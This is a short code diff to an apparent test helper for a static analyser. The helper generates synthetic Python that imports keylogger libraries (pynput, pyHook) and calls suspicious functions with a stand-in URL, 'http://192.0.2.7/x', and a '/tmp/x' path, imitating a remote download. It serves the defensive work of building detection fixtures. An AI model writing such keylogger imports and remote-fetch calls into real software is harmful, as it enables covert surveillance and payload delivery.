@@ -17,7 +17,9 @@ def _calls_of_every_table() -> str:
     lines = ["import pynput", "from pyHook import HookManager"]
     body = []
     # no "environ" anywhere: a file that mentions it is analysed without the shortcut
-    for i, q in enumerate(sorted({q for t in tables for q in t if "." in q and "()" not in q and "environ" not in q})):
+    for i, q in enumerate(
+        sorted({q for t in tables for q in t if "." in q and "()" not in q and "environ" not in q})
+    ):
         mod, last = q.rsplit(".", 1)
         lines.append(f"import {mod} as m{i}")
         call = f"m{i}.{last}('http://192.0.2.7/x', '/tmp/x')"
